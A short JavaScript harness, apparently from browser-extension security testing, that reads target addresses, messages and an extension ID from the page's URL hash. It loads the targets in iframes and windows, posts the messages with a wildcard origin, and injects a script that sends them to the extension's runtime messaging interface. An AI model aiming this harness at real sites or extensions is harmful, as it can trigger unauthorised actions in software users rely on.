/* In a page whose address says whom to attack and with what: embeds, opens and speaks. */
const target = JSON.parse(decodeURIComponent(location.hash.slice(1)));

for (const address of target.addresses) {
  const frame = document.createElement("iframe");
  frame.src = address;
  document.body.append(frame);
  frame.addEventListener("load", () => {
    for (const message of target.messages) frame.contentWindow?.postMessage(message, "*");
  });
  try { window.open(address); } catch { /* Firefox says no aloud */ }
}
const script = document.createElement("script");
script.textContent = `for (const message of ${JSON.stringify(target.messages)}) {
  try { chrome.runtime.sendMessage(${JSON.stringify(target.id)}, message, () => {}); } catch {}
  try { browser.runtime.sendMessage(${JSON.stringify(target.id)}, message); } catch {}
  try { chrome.runtime.connect(${JSON.stringify(target.id)}).postMessage(message); } catch {}
}`;
document.body.append(script);
for (const message of target.messages) {
  try { browser.runtime.sendMessage(target.id, message).catch(() => {}); } catch { /* no such way */ }
}
browser.runtime.sendMessage(target);
